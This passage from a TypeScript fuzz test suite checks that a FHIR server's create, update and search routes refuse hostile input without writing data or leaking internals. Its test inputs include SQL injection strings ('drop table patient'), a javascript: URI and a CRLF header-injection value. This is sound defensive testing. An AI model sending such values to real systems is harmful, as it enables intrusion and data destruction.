type IfMatch = 'current' | 'quoted-only' | 'missing' | 'stale' | 'future' | 'garbage' | 'list' | 'star';
type UrlId = 'target' | 'other-uuid' | 'not-a-uuid' | 'too-long';
interface UpdateCase extends WriteCase {
  ifMatch: IfMatch;
  url: UrlId;
}

/** An update of the seeded resource of `body.type`; a wrong version or URL makes any body a must-refuse. */
function updateCaseOf(body: WriteCase, ifMatch: IfMatch, url: UrlId): UpdateCase {
  const wrong = !['current', 'quoted-only'].includes(ifMatch) || url !== 'target';
  const c = { label: body.label, type: body.type, payload: body.payload, contentType: body.contentType, ifMatch, url, expect: wrong ? ('reject' as const) : body.expect };
  return Object.assign(c, { [fc.toStringMethod]: () => printable(c) });
}

// ---------------------------------------------------------------------------------------------
// Checking what came back and what changed
// ---------------------------------------------------------------------------------------------

const RECORD_TABLES = [...RESOURCE_TYPES.map((d) => d.table), 'resource_history', 'search_string', 'appointment_booking', 'document_blob'];
const TABLE_OF = new Map(RESOURCE_TYPES.map((d) => [d.type, d.table]));

/**
 * Per table: row count, plus a hash of every row's xmin (the transaction that wrote that row
 * version) and ctid. Any insert, update or delete changes it; a rolled-back write does not.
 */
async function fingerprint(db: Kysely<any>): Promise<Record<string, string>> {
  // A request the shield refuses leaves a security event, by design: that is the one row a refusal may add.
  const parts = [...RECORD_TABLES, 'audit_event'].map(
    (t) => sql`(select count(*)::text || ':' || coalesce(md5(string_agg(x.xmin::text || '@' || x.ctid::text, ',' order by x.ctid)), '-') from ${sql.table(t)} as x ${t === 'audit_event' ? sql`where x.action <> 'shield-block'` : sql``}) as ${sql.ref(t)}`,
  );
  const { rows } = await sql<Record<string, string>>`select ${sql.join(parts)}`.execute(db);
  return rows[0]!;
}

const countOf = (fp: Record<string, string>, table: string) => Number(fp[table]!.split(':')[0]);

async function auditMaxId(db: Kysely<any>): Promise<number> {
  const { rows } = await sql<{ m: string | number | null }>`select max(id) as m from audit_event`.execute(db);
  return Number(rows[0]?.m ?? 0);
}

async function auditOlderThan(db: Kysely<any>, maxId: number): Promise<string> {
  const { rows } = await sql<{ h: string }>`select count(*)::text || ':' || coalesce(md5(string_agg(x.xmin::text || '@' || x.ctid::text, ',' order by x.ctid)), '-') as h from audit_event x where id <= ${maxId}`.execute(db);
  return rows[0]!.h;
}

/** JSON with sorted keys; non-finite numbers kept visible (JSON.stringify would turn them into null silently). */
function canonical(v: unknown): string {
  if (typeof v === 'number') return Number.isFinite(v) ? JSON.stringify(v) : `"<${v}>"`;
  if (v === null || typeof v !== 'object') return JSON.stringify(v) ?? 'undefined';
  if (Array.isArray(v)) return `[${v.map(canonical).join(',')}]`;
  return `{${Object.keys(v)
    .sort()
    .map((k) => `${JSON.stringify(k)}:${canonical((v as Record<string, unknown>)[k])}`)
    .join(',')}}`;
}

const withoutMeta = (r: any) => {
  if (!r || typeof r !== 'object') return r;
  const { meta: _meta, ...rest } = r;
  return rest;
};

function bodyText(c: WriteCase, id: string): string | Buffer | undefined {
  if (typeof c.payload === 'string') return c.payload.replaceAll('__ID__', id);
  if (Buffer.isBuffer(c.payload)) return Buffer.from(c.payload.toString('latin1').replaceAll('__ID__', id), 'latin1');
  return undefined;
}

/** The resource as the server must have understood the bytes sent. */
function sentResource(payload: string | Buffer | undefined): unknown {
  const text = Buffer.isBuffer(payload) ? payload.toString('utf8') : payload ?? '';
  return JSON.parse(text.replace(/^\uFEFF/, ''));
}

const STACK_TRACE = /\n\s+at |node_modules|\/work\/|\.ts:\d+|\.js:\d+|Error: /;

/** What every answer must look like. Pushes violations to `problems`. */
function checkAnswer(res: { statusCode: number; body: string; headers: Record<string, unknown> }, problems: string[]): any {
  if (res.statusCode >= 500) problems.push(`${res.statusCode} server error: ${res.body.slice(0, 300)}`);
  if (res.statusCode < 200 || (res.statusCode >= 300 && res.statusCode < 400)) problems.push(`unexpected status ${res.statusCode}`);
  let body: any;
  try {
    body = res.body === '' ? undefined : JSON.parse(res.body);
  } catch {
    problems.push(`answer is not JSON (${res.statusCode}): ${res.body.slice(0, 200)}`);
    return undefined;
  }
  if (res.statusCode >= 400) {
    if (!String(res.headers['content-type'] ?? '').startsWith('application/fhir+json')) problems.push(`error answer has content-type ${String(res.headers['content-type'])}`);
    if (body?.resourceType !== 'OperationOutcome') problems.push(`${res.statusCode} answer is not an OperationOutcome: ${res.body.slice(0, 200)}`);
    const issues: any[] = Array.isArray(body?.issue) ? body.issue : [];
    if (issues.length === 0) problems.push(`${res.statusCode} OperationOutcome without issues`);
    for (const issue of issues) {
      if (typeof issue?.diagnostics !== 'string' || issue.diagnostics.trim().length === 0) problems.push(`${res.statusCode} issue without diagnostics: ${JSON.stringify(issue).slice(0, 200)}`);
      else if (STACK_TRACE.test(issue.diagnostics)) problems.push(`${res.statusCode} diagnostics leak internals: ${issue.diagnostics.slice(0, 300)}`);
      if (typeof issue?.severity !== 'string' || typeof issue?.code !== 'string') problems.push(`${res.statusCode} issue without severity/code`);
    }
  }
  return body;
}

function diffTables(before: Record<string, string>, after: Record<string, string>, ignore: string[] = []): string[] {
  return Object.keys(before)
    .filter((t) => !ignore.includes(t) && before[t] !== after[t])
    .map((t) => `${t} changed (${before[t]!.split(':')[0]} → ${after[t]!.split(':')[0]} rows)`);
}

// ---------------------------------------------------------------------------------------------
// Survey mode: collect every distinct violation instead of stopping at the first
// ---------------------------------------------------------------------------------------------

const survey = new Map<string, { count: number; example: string; size: number }>();

/** Fails the run (normal mode) or records the problems (survey mode). */
function conclude(property: string, input: object, problems: string[]): void {
  if (problems.length === 0) return;
  if (!SURVEY) throw new Error(`${problems.join('\n')}\ninput: ${printable(input)}`);
  for (const p of problems) {
    const label = (input as { label?: string }).label ?? '';
    const key = `${property} | ${label.replace(/^.*!/, '!').replace(/\(.*?\)/g, '')} | ${p.replace(/[0-9a-f]{8}-[0-9a-f-]{27}/g, '<uuid>').replace(/\d+/g, 'N').slice(0, 160)}`;
    const example = printable(input);
    const seen = survey.get(key);
    if (!seen) survey.set(key, { count: 1, example, size: example.length });
    else {
      seen.count++;
      if (example.length < seen.size) Object.assign(seen, { example, size: example.length });
    }
  }
}

const statuses = new Map<string, Map<number, number>>();
function tally(what: string, status: number): void {
  if (!SURVEY) return;
  const byStatus = statuses.get(what) ?? new Map<number, number>();
  byStatus.set(status, (byStatus.get(status) ?? 0) + 1);
  statuses.set(what, byStatus);
}

function printSurvey(kind: string): void {
  if (!SURVEY) return;
  for (const [what, byStatus] of statuses) console.log(`${kind} ${what}: ${[...byStatus].sort(([a], [b]) => a - b).map(([st, n]) => `${st}×${n}`).join(' ')}`);
  statuses.clear();
  const lines = [...survey.entries()].sort(([a], [b]) => a.localeCompare(b)).map(([key, { count, example }]) => `• [${count}×] ${key}\n    e.g. ${example.slice(0, 1500)}`);
  console.log(`\n===== ${kind}: ${survey.size} distinct violations =====\n${lines.join('\n')}`);
  survey.clear();
}

// The runs take ~10 s a property; the cap only bounds shrinking (which replays requests) after a failure.
// Pinned examples run first and on top of the RUNS random cases.
const fcParams = (examples: any[] = []) => ({ seed: SEED, numRuns: RUNS + examples.length, examples, interruptAfterTimeLimit: 50_000 });

// ---------------------------------------------------------------------------------------------
// The properties, on each store
// ---------------------------------------------------------------------------------------------

describe.each(STORE_KINDS)('FHIR routes under hostile input (%s)', (kind) => {
  let node: TestNode;
  let db: Kysely<any>;
  let started = 0;
  const targets: Record<string, string> = {};

  beforeAll(async () => {
    started = Date.now();
    node = await startTestNode(kind);
    db = node.ctx.store.db as unknown as Kysely<any>;
    // Something for searches to find and _include to follow, and update targets.
    const org = await node.request({ method: 'POST', url: '/fhir/R4/Organization', payload: template('Organization') });
    const prac = await node.request({ method: 'POST', url: '/fhir/R4/Practitioner', payload: template('Practitioner') });
    for (const type of ['Patient', 'Observation', 'Appointment', 'Composition']) {
      const body = template(type, 7, 'aaaaaaaa-bbbb-4ccc-8ddd-eeeeeeeeeeee');
      if (type === 'Patient') Object.assign(body, { managingOrganization: { reference: `Organization/${org.json().id}` }, generalPractitioner: [{ reference: `Practitioner/${prac.json().id}` }] });
      const res = await node.request({ method: 'POST', url: `/fhir/R4/${type}`, payload: body });
      if (res.statusCode !== 201) throw new Error(`seeding ${type}: ${res.statusCode} ${res.body}`);
      targets[type] = res.json().id;
    }
  });

  afterAll(async () => {
    await node?.stop();
    console.log(`[fhir-hostile-input] ${kind}: ${((Date.now() - started) / 1000).toFixed(1)} s, seed ${SEED}, ${RUNS} runs per property`);
  });

  it('accepts every untouched template (so the properties below start from valid resources)', async () => {
    for (const type of CREATE_TYPES) {
      const res = await node.request({ method: 'POST', url: `/fhir/R4/${type}`, payload: template(type, 100 + CREATE_TYPES.indexOf(type)) });
      expect(res.statusCode, `${type}: ${res.body}`).toBe(201);
    }
  });

  it('notices every committed write and no rolled-back one (checks the checker)', async () => {
    const before = await fingerprint(db);
    await db
      .transaction()
      .execute(async (tx) => {
        await sql`insert into audit_event (actor, action, outcome) values ('test', 'read', 'success')`.execute(tx);
        throw new Error('roll back');
      })
      .catch(() => undefined);
    expect(await fingerprint(db)).toEqual(before);
    // Rewriting a row with identical values is still a write.
    await sql`update patient set last_updated = last_updated where id = ${targets.Patient}::uuid`.execute(db);
    expect(diffTables(before, await fingerprint(db))).toEqual([`patient changed (${countOf(before, 'patient')} → ${countOf(before, 'patient')} rows)`]);
  });

  it('create: refuses bad input with a 4xx OperationOutcome and writes nothing; stores good input exactly', async () => {
    const createCase = fc.oneof({ weight: 3, arbitrary: mutatedResource(CREATE_TYPES, false) }, { weight: 2, arbitrary: rawBody(CREATE_TYPES, false) });
    const examples = PINNED_CREATE.map((c) => [c]);
    await fc.assert(
      fc.asyncProperty(createCase, async (c) => {
        const problems: string[] = [];
        const before = await fingerprint(db);
        const payload = bodyText(c, '');
        const res = await node.request({ method: 'POST', url: `/fhir/R4/${c.type}`, payload: payload as any, headers: c.contentType ? { 'content-type': c.contentType } : {} });
        const body = checkAnswer(res, problems);
        tally(`create ${c.expect}`, res.statusCode);
        const after = await fingerprint(db);
        if (res.statusCode !== 201) {
          if (res.statusCode < 400) problems.push(`create answered ${res.statusCode}`);
          if (c.label === 'valid') problems.push(`refused (${res.statusCode}) an untouched valid ${c.type}: ${res.body.slice(0, 300)}`);
          problems.push(...diffTables(before, after).map((d) => `rejected (${res.statusCode}) but ${d}`));
        } else {
          if (c.expect === 'reject') problems.push(`accepted (201) input that must be refused: ${res.body.slice(0, 300)}`);
          const table = TABLE_OF.get(c.type)!;
          if (countOf(after, table) !== countOf(before, table) + 1) problems.push(`201 but ${table} grew by ${countOf(after, table) - countOf(before, table)}`);
          if (countOf(after, 'resource_history') !== countOf(before, 'resource_history') + 1) problems.push(`201 but resource_history grew by ${countOf(after, 'resource_history') - countOf(before, 'resource_history')}`);
          if (countOf(after, 'audit_event') !== countOf(before, 'audit_event') + 1) problems.push(`201 but audit_event grew by ${countOf(after, 'audit_event') - countOf(before, 'audit_event')}`);
          problems.push(...diffTables(before, after, [table, 'resource_history', 'search_string', 'appointment_booking', 'audit_event']).map((d) => `201 but ${d}`));
          const history = await sql<{ n: number }>`select count(*)::int as n from resource_history where resource_type = ${c.type} and id = ${body?.id}::uuid`.execute(db);
          if (history.rows[0]?.n !== 1) problems.push(`201 but ${history.rows[0]?.n} history rows for ${c.type}/${body?.id}`);
          if (body?.meta?.versionId !== '1') problems.push(`201 with versionId ${body?.meta?.versionId}`);
          const read = await node.request({ method: 'GET', url: `/fhir/R4/${c.type}/${body?.id}` });
          if (read.statusCode !== 200) problems.push(`created ${c.type}/${body?.id} reads back ${read.statusCode}`);
          else {
            const stored = read.json();
            if (canonical(stored) !== canonical(body)) problems.push(`read back differs from the 201 body:\n  201:  ${canonical(body).slice(0, 400)}\n  read: ${canonical(stored).slice(0, 400)}`);
            const { id: _id, ...storedRest } = withoutMeta(stored);
            if (canonical(storedRest) !== canonical(withoutMeta(sentResource(payload)))) {
              problems.push(`stored resource differs from what was sent:\n  sent:   ${canonical(withoutMeta(sentResource(payload))).slice(0, 400)}\n  stored: ${canonical(storedRest).slice(0, 400)}`);
            }
          }
        }
        conclude('create', c, problems);
      }),
      fcParams(examples),
    );
    printSurvey(`create (${kind})`);
  }, 600_000);

  it('update: refuses bad input with a 4xx OperationOutcome and leaves the resource and its version as they were', async () => {
    const updateTypes = ['Patient', 'Observation', 'Appointment', 'Composition'];
    const updateCase = fc
      .record({
        body: fc.oneof({ weight: 3, arbitrary: mutatedResource(updateTypes, true) }, { weight: 2, arbitrary: rawBody(updateTypes, true) }),
        ifMatch: fc.constantFrom<IfMatch>('current', 'current', 'current', 'current', 'current', 'quoted-only', 'missing', 'stale', 'future', 'garbage', 'list', 'star'),
        url: fc.constantFrom<UrlId>('target', 'target', 'target', 'target', 'target', 'other-uuid', 'not-a-uuid', 'too-long'),
      })
      .map(({ body, ifMatch, url }) => updateCaseOf(body, ifMatch, url));
    const examples = PINNED_UPDATE.map((c) => [c]);
    await fc.assert(
      fc.asyncProperty(updateCase, async (c) => {
        const problems: string[] = [];
        const id = targets[c.type]!;
        const table = TABLE_OF.get(c.type)!;
        const row = async () => (await sql<{ version_id: number; content: unknown }>`select version_id, content from ${sql.table(table)} where id = ${id}::uuid`.execute(db)).rows[0]!;
        const current = await row();
        const v = current.version_id;
        const ifMatch: Record<string, string | undefined> = {
          current: `W/"${v}"`,
          'quoted-only': `"${v}"`,
          missing: undefined,
          stale: `W/"${v - 1}"`,
          future: `W/"${v + 1}"`,
          garbage: `W/"${v}'; drop table patient; --"`,
          list: `W/"${v}", W/"${v + 1}"`,
          star: '*',
        };
        const urlId = { target: id, 'other-uuid': '00000000-0000-4000-8000-000000000000', 'not-a-uuid': 'abc.DEF-123', 'too-long': 'a'.repeat(65) }[c.url];
        const headers: Record<string, string> = {};
        if (c.contentType) headers['content-type'] = c.contentType;
        if (ifMatch[c.ifMatch] !== undefined) headers['if-match'] = ifMatch[c.ifMatch]!;
        const payload = bodyText(c, id);
        const before = await fingerprint(db);
        const res = await node.request({ method: 'PUT', url: `/fhir/R4/${c.type}/${urlId}`, payload: payload as any, headers });
        const body = checkAnswer(res, problems);
        tally(`update ${c.expect}`, res.statusCode);
        const after = await fingerprint(db);
        const now = await row();
        if (res.statusCode !== 200) {
          if (res.statusCode < 400) problems.push(`update answered ${res.statusCode}`);
          if (c.label === 'valid' && c.url === 'target') {
            // An otherwise good update: the answer must name the real problem.
            const expected = ({ current: 200, 'quoted-only': 200, missing: 428, stale: 412, future: 412 } as Record<string, number>)[c.ifMatch];
            if (expected !== undefined && res.statusCode !== expected) problems.push(`valid update with If-Match ${c.ifMatch} answered ${res.statusCode}, expected ${expected}`);
          }
          if (now.version_id !== v) problems.push(`rejected (${res.statusCode}) but the version moved ${v} → ${now.version_id}`);
          if (canonical(now.content) !== canonical(current.content)) problems.push(`rejected (${res.statusCode}) but the stored resource changed`);
          problems.push(...diffTables(before, after).map((d) => `rejected (${res.statusCode}) but ${d}`));
        } else {
          if (c.expect === 'reject') problems.push(`accepted (200) input that must be refused: ${res.body.slice(0, 300)}`);
          if (c.label === 'valid' && !['current', 'quoted-only'].includes(c.ifMatch)) problems.push(`accepted (200) an update with If-Match ${c.ifMatch}`);
          if (now.version_id !== v + 1) problems.push(`200 but version ${v} → ${now.version_id}`);
          if (body?.meta?.versionId !== String(v + 1)) problems.push(`200 with versionId ${body?.meta?.versionId}, expected ${v + 1}`);
          if (countOf(after, 'resource_history') !== countOf(before, 'resource_history') + 1) problems.push(`200 but resource_history grew by ${countOf(after, 'resource_history') - countOf(before, 'resource_history')}`);
          if (countOf(after, table) !== countOf(before, table)) problems.push(`200 but ${table} row count changed`);
          const stored = withoutMeta(now.content);
          if (canonical(stored) !== canonical(withoutMeta(sentResource(payload)))) {
            problems.push(`stored resource differs from what was sent:\n  sent:   ${canonical(withoutMeta(sentResource(payload))).slice(0, 400)}\n  stored: ${canonical(stored).slice(0, 400)}`);
          }
        }
        conclude('update', c, problems);
      }),
      fcParams(examples),
    );
    printSurvey(`update (${kind})`);
  }, 600_000);

  it('search: answers a Bundle or a 4xx OperationOutcome, never a 5xx, and writes nothing but audit rows', async () => {
    const meta = (await node.request({ method: 'GET', url: '/fhir/R4/metadata' })).json();
    const resources: { type: string; searchParam: { name: string; type: string }[]; searchInclude: string[] }[] = meta.rest[0].resource;
    const searchCase = fc.constantFrom(...resources).chain((r) =>
      fc
        .oneof(
          { weight: 16, arbitrary: fc.array(searchParam(r), { maxLength: 2 }) },
          { weight: 6, arbitrary: fc.array(searchParam(r), { minLength: 3, maxLength: 6 }) },
          { weight: 1, arbitrary: fc.integer({ min: 41, max: 45 }).map((n) => Array.from({ length: n }, (_, i): Param => ({ name: `p${i}`, value: '1', raw: false, expect: 'reject', why: 'flood' }))) },
          { weight: 1, arbitrary: searchParam(r).map((p) => Array.from({ length: 21 }, () => p)) },
        )
        .map((params) => {
          const distinct = new Set(params.map((p) => p.name));
          const flood = distinct.size > 40 || [...distinct].some((n) => params.filter((p) => p.name === n).length > 20);
          const expect: Expect = flood || params.some((p) => p.expect === 'reject') ? 'reject' : 'any';
          const query = params.map((p) => (p.raw ? `${p.name}=${p.value}` : `${encode(p.name)}=${encode(p.value)}`)).join('&');
          const label = params.filter((p) => p.expect === 'reject').map((p) => p.why).join(',') || (flood ? 'flood' : 'plausible');
          return Object.assign({ label, type: r.type, query, expect }, { [fc.toStringMethod]: () => printable({ label, type: r.type, query, expect }) });
        }),
    );
    const examples = PINNED_SEARCH.map(([type, query, expect]) => [Object.assign({ label: `pinned ${query}`, type, query, expect }, { [fc.toStringMethod]: () => printable({ type, query, expect }) })]);
    await fc.assert(
      fc.asyncProperty(searchCase, async (c) => {
        const problems: string[] = [];
        const before = await fingerprint(db);
        const maxAudit = await auditMaxId(db);
        const oldAudit = await auditOlderThan(db, maxAudit);
        const res = await node.request({ method: 'GET', url: `/fhir/R4/${c.type}${c.query ? `?${c.query}` : ''}` });
        const body = checkAnswer(res, problems);
        tally(`search ${c.expect}`, res.statusCode);
        if (res.statusCode === 200) {
          if (c.expect === 'reject') problems.push(`answered 200 to a search that must be refused`);
          if (body?.resourceType !== 'Bundle' || body?.type !== 'searchset' || !Array.isArray(body?.entry)) problems.push(`200 but not a searchset Bundle: ${res.body.slice(0, 200)}`);
          for (const e of body?.entry ?? []) if (e?.search?.mode === 'match' && e?.resource?.resourceType !== c.type) problems.push(`match entry of type ${e?.resource?.resourceType}`);
        } else if (res.statusCode < 400) {
          problems.push(`search answered ${res.statusCode}`);
        }
        const after = await fingerprint(db);
        problems.push(...diffTables(before, after, ['audit_event']).map((d) => `search (${res.statusCode}) but ${d}`));
        if ((await auditOlderThan(db, maxAudit)) !== oldAudit) problems.push('search changed existing audit rows');
        const fresh = await sql<{ action: string; resource_type: string | null }>`select action, resource_type from audit_event where id > ${maxAudit}`.execute(db);
        // Security events of refused requests (this one's or an earlier one's, recorded after its answer) may land here too.
        for (const a of fresh.rows) if (a.action !== 'shield-block' && (a.action !== 'search' || a.resource_type !== c.type)) problems.push(`search wrote an audit row ${a.action} ${a.resource_type}`);
        if (res.statusCode === 200 && fresh.rows.length === 0) problems.push('a successful search left no audit row');
        conclude('search', c, problems);
      }),
      fcParams(examples),
    );
    printSurvey(`search (${kind})`);
  }, 600_000);
});

// ---------------------------------------------------------------------------------------------
// Search parameters
// ---------------------------------------------------------------------------------------------

interface Param {
  name: string;
  value: string;
  raw: boolean;
  expect: Expect;
  why: string;
}

/** Percent-encodes UTF-8 bytes (a lone surrogate becomes U+FFFD instead of throwing like encodeURIComponent). */
function encode(s: string): string {
  return [...Buffer.from(s, 'utf8')].map((b) => (/[A-Za-z0-9\-_.~]/.test(String.fromCharCode(b)) ? String.fromCharCode(b) : `%${b.toString(16).toUpperCase().padStart(2, '0')}`)).join('');
}

const DATE_PREFIXES = ['', 'eq', 'ne', 'lt', 'gt', 'le', 'ge', 'sa', 'eb'];
const SEARCH_DATES = ['2024', '2024-03', '2024-03-05', '2024-03-05T10:00Z', '2024-03-05T10:00:00-05:00', '2024-03-05T10:00:00.123Z', '1985-04-12', ...EDGE_DATES];
const SEARCH_BAD_DATES = ['2024-13', '2024-02-30', '2024-00', '2023-02-29', '24', '2024-1-1', '2024-03-05T25:00Z', '2024-03-05T10:00:00+25:00', '2024-03-05T10:00:00+99:99', 'now', 'today', '２０２４', '2024-03-05T10:00:00.1234567890Z', "2024' or '1'='1"];
const UNKNOWN_PARAMS = ['foo', 'constructor', 'toString', 'hasOwnProperty', '__proto__', 'NAME', 'name ', 'birth-date', "'; drop table patient; --", 'x'.repeat(300), '_elements', '_revinclude', '_has:Observation:patient:code', '_filter', '_text', '_content', '_query', '_list', '_security', 'a:b:c'];

function dateValue(): fc.Arbitrary<{ value: string; bad: boolean; why: string }> {
  return fc.oneof(
    { weight: 5, arbitrary: fc.tuple(fc.constantFrom(...DATE_PREFIXES), fc.constantFrom(...SEARCH_DATES)).map(([p, d]) => ({ value: p + d, bad: false, why: '' })) },
    { weight: 2, arbitrary: fc.tuple(fc.constantFrom(...DATE_PREFIXES), fc.constantFrom(...SEARCH_BAD_DATES)).map(([p, d]) => ({ value: p + d, bad: true, why: `bad date ${p}${d}` })) },
    { weight: 1, arbitrary: fc.constantFrom('ap2024', 'xx2024', 'GE2024', 'ge', '').map((value) => ({ value, bad: true, why: `bad date ${value}` })) },
  );
}

function searchValue(type: string): fc.Arbitrary<{ value: string; bad: boolean; why: string }> {
  const ok = (value: string) => ({ value, bad: false, why: '' });
  switch (type) {
    case 'date':
      return fc.oneof({ weight: 4, arbitrary: dateValue() }, { weight: 1, arbitrary: fc.array(dateValue(), { minLength: 2, maxLength: 4 }).map((vs) => ({ value: vs.map((v) => v.value).join(','), bad: vs.some((v) => v.bad), why: vs.map((v) => v.why).join('') })) });
    case 'token':
      return fc.oneof(
        fc.constantFrom('female', 'final', 'booked', 'true', '8867-4', 'http://loinc.org|8867-4', '|8867-4', 'https://telesalud.org/fhir/sid/national-id|1020304050', 'a,b,c', '\\,').map(ok),
        fc.constantFrom('http://loinc.org|', '|').map((value) => ({ value, bad: true, why: `system-only token ${value}` })),
        hostileString.filter((s) => s.length > 0 && s.length <= 512 && !s.split(/(?<!\\),/).some((v) => v.length === 0 || v.endsWith('|'))).map(ok),
      );
    case 'reference':
      return fc.oneof(
        fc.constantFrom('5f2b3c4d-1e6f-4a7b-8c9d-0e1f2a3b4c5d', 'Patient/5f2b3c4d-1e6f-4a7b-8c9d-0e1f2a3b4c5d', 'https://elsewhere.example/fhir/Patient/5f2b3c4d-1e6f-4a7b-8c9d-0e1f2a3b4c5d', 'Practitioner/x', 'abc', 'Organization/a.b-c').map(ok),
        fc.constantFrom('Patient/', '/', 'Patient/a/b', 'Patient/a b', 'javascript:alert(1)', "x' or 1=1--").map((value) => ({ value, bad: true, why: `bad reference ${value}` })),
        hostileString.filter((s) => s.length <= 512).map(ok),
      );
    default:
      return fc.oneof(fc.constantFrom('nun', 'Núñez', 'JOSÉ', 'gom,nun', 'Clínica', '%', '_', '\\').map(ok), hostileString.filter((s) => s.length <= 512).map(ok));
  }
}

function searchParam(r: { type: string; searchParam: { name: string; type: string }[]; searchInclude: string[] }): fc.Arbitrary<Param> {
  const sortable = r.searchParam.filter((p) => p.type === 'date' || p.type === 'string' || p.name === '_id' || p.name === '_lastUpdated').map((p) => p.name);
  const unsortable = r.searchParam.filter((p) => !sortable.includes(p.name)).map((p) => p.name);
  const param = (name: string, value: string, bad: boolean, why = '', raw = false): Param => ({ name, value, raw, expect: bad ? 'reject' : 'any', why: bad ? why || `${name}=${value}` : '' });
  const known = fc.constantFrom(...r.searchParam).chain((p) =>
    fc
      .tuple(
        searchValue(p.type),
        fc.oneof(
          { weight: 6, arbitrary: fc.constant(null) },
          { weight: 1, arbitrary: fc.constantFrom('exact', 'contains', 'missing', 'not', 'text', 'below', 'above', 'in', 'Patient', 'Practitioner', 'identifier', 'of-type', 'x:y', '') },
        ),
      )
      .map(([v, modifier]) => {
        const modOk =
          modifier === null ||
          modifier === '' ||
          (p.type === 'string' && (modifier === 'exact' || modifier === 'contains')) ||
          (p.type === 'reference' && /^[A-Z]/.test(modifier) && !modifier.includes(':'));
        return param(modifier === null ? p.name : `${p.name}:${modifier}`, v.value, v.bad || !modOk, v.bad ? v.why : `modifier :${modifier} on ${p.type}`);
      }),
  );
  const specialOk = fc.oneof(
    fc.constantFrom('0', '1', '20', '1000').map((v) => param('_count', v, false)),
    fc.constantFrom('0', '5', '10000').map((v) => param('_offset', v, false)),
    fc.array(fc.tuple(fc.boolean(), fc.constantFrom(...sortable)), { minLength: 1, maxLength: 3 }).map((ks) => param('_sort', ks.map(([d, k]) => (d ? '-' : '') + k).join(','), false)),
    ...(r.searchInclude.length ? [fc.constantFrom(...r.searchInclude, ...r.searchInclude.map((i) => `${i}:Patient`)).map((v) => param('_include', v, false))] : []),
    fc.constantFrom('none', 'estimate', 'accurate').map((v) => param('_total', v, false)),
    fc.constant(param('_summary', 'count', false)),
    fc.constantFrom('5f2b3c4d-1e6f-4a7b-8c9d-0e1f2a3b4c5d', 'abc', 'a,b,c').map((v) => param('_id', v, false)),
    dateValue().map((d) => param('_lastUpdated', d.value, d.bad, d.why)),
    fc.constantFrom('json', 'application/fhir+json').map((v) => param('_format', v, false)),
  );
  const specialBad = fc.oneof(
    fc.constantFrom('-1', '1001', 'abc', '1e3', '99999999', '', ' 5', '0x10', '1.5').map((v) => param('_count', v, true)),
    fc.constantFrom('-1', '10001', 'x', '').map((v) => param('_offset', v, true)),
    fc.constantFrom('whatever', '--birthdate', '', ',', ...unsortable, 'name; drop table patient').map((v) => param('_sort', v, true, `_sort=${v}`)),
    fc.constantFrom('*', 'Foo:bar', `${r.type}:nope`, `${r.type}`, `${r.type}:patient:Nope:x`, '').map((v) => param('_include', v, true)),
    fc.constantFrom('yes', '', 'ACCURATE').map((v) => param('_total', v, true)),
    fc.constantFrom('true', 'text', 'data', 'false').map((v) => param('_summary', v, true)),
    fc.constantFrom('a b', '', "x'--", 'a/b', 'x'.repeat(65)).map((v) => param('_id', v, true)),
    fc.constantFrom('xml', 'application/fhir+xml', 'html').map((v) => param('_format', v, true)),
  );
  const unknown = fc.tuple(fc.constantFrom(...UNKNOWN_PARAMS), hostileString.filter((s) => s.length <= 100)).map(([n, v]) => param(n, v || 'x', true, `unknown parameter ${n}`));
  const tooLong = fc.tuple(fc.constantFrom(...r.searchParam.map((p) => p.name)), fc.integer({ min: 513, max: 5000 })).map(([n, len]) => param(n, 'a'.repeat(len), true, `value of ${len} chars`));
  const tooMany = fc.tuple(fc.constantFrom(...r.searchParam.map((p) => p.name)), fc.integer({ min: 101, max: 300 })).map(([n, k]) => param(n, Array.from({ length: k }, (_, i) => `v${i}`).join(','), true, `${k} alternatives`));
  const raw = fc.tuple(fc.constantFrom(...r.searchParam.map((p) => p.name), '_count', '_sort'), fc.constantFrom('%', '%zz', '%00', 'a%00b', '%ED%A0%80', '%C0%AF', '%FF%FE', '+', 'a+b', '%2B', '%26', '%3D', '=', '==', ';', '%0d%0aX-Injected:%201', '%0A', 'ge%0A2024', '2024%0A', "'", '"', '<', '%25')).map(([n, v]) =>
    param(n, v, false, '', true),
  );
  return fc.oneof({ weight: 14, arbitrary: known }, { weight: 5, arbitrary: specialOk }, { weight: 2, arbitrary: specialBad }, { weight: 1, arbitrary: unknown }, { weight: 1, arbitrary: tooLong }, { weight: 1, arbitrary: tooMany }, { weight: 3, arbitrary: raw });
}

// ---------------------------------------------------------------------------------------------
// Inputs that once broke (or could break) the routes: always tried first, whatever the seed
// ---------------------------------------------------------------------------------------------

function pinnedObservation(field: string, value: Json): string {
  const r = template('Observation');
  delete r.valueQuantity;
  r.code = { text: 'Nota' };
  r.category = [{ text: 'libre' }];
  r[field] = value;
  return JSON.stringify(r);
}

const PINNED_CREATE: WriteCase[] = [
  writeCase('lone surrogate in a string', 'Patient', JSON.stringify({ ...template('Patient'), name: [{ family: 'a\ud800b' }] }), FHIR_JSON, 'any'),
  writeCase('dateTime year 1 east of UTC', 'Observation', pinnedObservation('effectiveDateTime', '0001-01-01T00:00:00+14:00'), FHIR_JSON, 'any'),
  writeCase('dateTime year 9999 west of UTC', 'Observation', pinnedObservation('effectiveDateTime', '9999-12-31T23:59:59-12:00'), FHIR_JSON, 'any'),
  writeCase('nested extension 3000 deep', 'Patient', expandDeep(JSON.stringify({ ...template('Patient'), extension: [nestedExtension(3000)] })), FHIR_JSON, 'any'),
  writeCase('NUL in a uri', 'Patient', JSON.stringify({ ...template('Patient'), identifier: [{ system: 'urn:x\u0000', value: '1' }] }), FHIR_JSON, 'any'),
  writeCase('NUL in a code', 'Observation', JSON.stringify({ ...template('Observation'), code: { coding: [{ system: LOINC, code: '1234-5\u0000' }] } }), FHIR_JSON, 'any'),
  writeCase('NUL in an extension url', 'Organization', JSON.stringify({ ...template('Organization'), extension: [{ url: 'https://x.example/\u0000', valueString: 'y' }] }), FHIR_JSON, 'any'),
  writeCase('!bad-date 2024-02-30', 'Patient', JSON.stringify({ ...template('Patient'), birthDate: '2024-02-30' }), FHIR_JSON, 'reject'),
  writeCase('!bad-date time without zone', 'Observation', pinnedObservation('effectiveDateTime', '2024-01-01T10:00:00'), FHIR_JSON, 'reject'),
  writeCase('!unknown-field toString', 'Patient', JSON.stringify({ ...template('Patient'), toString: 'x' }), FHIR_JSON, 'reject'),
  writeCase('!empty-value []', 'Patient', JSON.stringify({ ...template('Patient'), name: [] }), FHIR_JSON, 'reject'),
  writeCase('!empty-value string', 'Condition', JSON.stringify({ ...template('Condition'), code: { text: '' } }), FHIR_JSON, 'reject'),
